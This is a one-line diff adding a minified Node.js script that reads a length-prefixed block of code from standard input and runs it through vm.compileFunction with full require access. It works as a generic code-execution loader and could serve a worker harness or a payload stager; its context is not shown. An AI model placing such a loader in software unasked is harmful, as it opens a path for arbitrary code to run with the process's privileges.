@@ -1,0 +1,1 @@
+const fs=require('fs');const take=n=>{const b=Buffer.alloc(n);for(let at=0;at<n;)try{const m=fs.readSync(0,b,at,n-at);if(!m)process.exit();at+=m}catch(e){if(e.code!=='EAGAIN')throw e;Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0,9)}return b.toString()};require('vm').compileFunction(take(+take(8)),['require'])(require)
